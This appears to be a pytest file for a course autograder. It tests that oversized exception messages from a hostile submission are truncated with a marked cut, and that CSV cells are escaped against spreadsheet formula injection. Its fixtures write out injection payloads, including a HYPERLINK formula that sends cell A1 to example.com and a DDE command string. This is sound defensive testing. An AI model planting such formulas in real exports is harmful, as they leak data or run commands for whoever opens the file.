"""Issue 40's fifth scenario: a file of a few hundred bytes that raises a megabyte in every test
once made 774 MB of reports. Every reason kept in a report file is cut to grader/cells.py's
stated size with the cut marked, and every CSV cell opens in a spreadsheet as the text it is,
even when the submission chose its first character."""
import csv
import json
import os
import subprocess
import sys

import pytest

from tests.grader.gradeclass import LAB, bank_entries, bank_faults, base_text, drawn, public_entries
from lab.check import manifest

from grader import cells, gradescope, plan as plans
from grader.row import Row
from grader.sandbox.statement import Statement

# 'x' * 2**20 after a spreadsheet formula: the red team's message, raised for every name a
# test asks the file for.
LOUD = ('def __getattr__(name):\n'
        '    raise RuntimeError(\'=HYPERLINK("http://example.com/?" & A1, "open")\' '
        '+ "x" * (1 << 20))\n')
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("loud")
    root.chmod(0o755)
    folder = root / "submissions"
    folder.mkdir()
    (folder / "loud.py").write_text(LOUD, encoding="utf-8")
    # An honest file whose name a spreadsheet would read as a formula.
    (folder / "@alice.py").write_text(base_text("solution"), encoding="utf-8")
    out = root / "out"
    # Each test raises at once; the wall-clock guard is wide enough that a loaded machine,
    # formatting and sending a megabyte per test, never turns a raise into a timeout, whose
    # reason is the guard's and not the file's.
    done = subprocess.run(
        [sys.executable, "-m", "grader", "grade", "--lab", LAB.id, "--own-lab-only",
         str(folder), "--out", str(out), "--jobs", "2", "--quiet", "--seconds-per-test", "10"],
        cwd=manifest.KIT, capture_output=True, text=True, timeout=600,
        env={**os.environ, "PYTHONPATH": str(manifest.KIT)})
    assert done.returncode == 0, done.stdout + done.stderr
    return out / f"lab-{LAB.id}"


def test_every_reason_is_cut_to_its_stated_size_with_the_cut_marked(graded):
    data = json.loads((graded / "grades.json").read_text(encoding="utf-8"))
    loud = next(r for r in data["submissions"] if r["student"] == "loud")
    assert loud["score"] == 0, f"the loud file scored {loud['score']}: it holds no harness code"
    long = [t for t in loud["tests"] if len(t["message"]) > cells.REASON_CHARACTERS]
    assert not long, (f"{len(long)} reasons in grades.json are longer than the stated "
                      f"{cells.REASON_CHARACTERS} characters, the first "
                      f"{len(long[0]['message']):,}" if long else "")
    unmarked = [t["id"] for t in public_entries(loud) if "[... cut:" not in t["message"]]
    assert not unmarked, (f"these reasons of a megabyte were cut without saying so: "
                          f"{unmarked}; each must end with the line that marks the cut")
    # A grading bank test's reason is not the student's to read: grades.json gives the bank's
    # own words, and the instructor's file keeps the megabyte, cut and marked as every reason.
    faults = bank_faults(loud, drawn(graded))
    assert bank_entries(loud) and not faults, "\n".join(faults) or "lab 15.1 drew no bank test"
    with (graded / "instructor" / "tests.csv").open(encoding="utf-8", newline="") as handle:
        kept = {r["test"]: r["reason"] for r in csv.DictReader(handle) if r["student"] == "loud"}
    unmarked = [t["id"] for t in bank_entries(loud) if "[... cut:" not in kept[t["id"]]
                or len(kept[t["id"]]) > cells.REASON_CHARACTERS]
    assert not unmarked, (f"the instructor's tests.csv keeps these bank tests' reasons of a "
                          f"megabyte past {cells.REASON_CHARACTERS} characters or without "
                          f"the line that marks the cut: {unmarked}")


def test_no_report_file_grows_past_the_bound_its_tests_give_it(graded):
    tests = len(json.loads((graded / "grades.json").read_text(encoding="utf-8"))["tests"])
    # Two rows of `tests` reasons each, with room for each test's sentence and the row's own
    # fields: bounded by the plan, whatever the file raised (it raised 23 MB in all).
    bound = 2 * tests * (cells.REASON_CHARACTERS + 1000) + 20_000
    for name in ("grades.json", "tests.csv", "journal.jsonl", "report.html",
                 "feedback/loud.md", "instructor/tests.csv"):
        size = (graded / name).stat().st_size
        assert size <= bound, (f"{name} holds {size:,} bytes for two submissions of {tests} "
                               f"tests, past its bound of {bound:,}: a reason was kept whole")


def test_no_csv_cell_starts_a_formula(graded):
    for name in ("tests.csv", "grades.csv"):
        with (graded / name).open(encoding="utf-8", newline="") as handle:
            cells_ = [cell for row in csv.reader(handle) for cell in row]
        formulas = [cell[:40] for cell in cells_
                    if cell.startswith(FORMULA) and not cells._number(cell)]
        assert not formulas, (f"{name} holds cells a spreadsheet would run as formulas: "
                              f"{formulas[:3]}; each must start with '")
    with (graded / "grades.csv").open(encoding="utf-8", newline="") as handle:
        students = [row[0] for row in csv.reader(handle)][1:]
    assert "'@alice" in students, (f"grades.csv names the students {students}: the file "
                                   "@alice.py must be there as '@alice, text to a spreadsheet")


def test_gradescope_results_hold_the_cut_reasons(graded):
    data = json.loads((graded / "grades.json").read_text(encoding="utf-8"))
    loud = Row.from_dict(next(r for r in data["submissions"] if r["student"] == "loud"))
    plan = plans.make(LAB.id, own_lab_only=True)
    results = gradescope.results_json(plan, loud, Statement.from_dict(data["isolation"]), "visible",
                                       1.0)
    longest = max(len(t["output"]) for t in results["tests"])
    assert longest <= cells.REASON_CHARACTERS + 100, (
        f"results.json holds a test output of {longest:,} characters; each is the cut reason "
        "and a verdict's words")


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("+1+1", "'+1+1"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("-2", "-2"), ("plain", "plain"), (3, 3)])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert cells.safe(value) == written, (f"cells.safe({value!r}) gave {cells.safe(value)!r}, "
                                          f"where a spreadsheet must read {written!r}")


def test_a_short_text_is_kept_whole_and_a_long_one_fits_its_bound():
    assert cells.cut("short") == "short", "a text under the bound must be kept as it is"
    long = "y" * 100_000
    kept = cells.cut(long, 500)
    assert len(kept) <= 500 and kept.startswith("y" * 100) and "100,000" in kept, (
        f"a 100,000-character text cut to 500 gave {len(kept)} characters ending "
        f"{kept[-80:]!r}; it must fit and say how long it was")
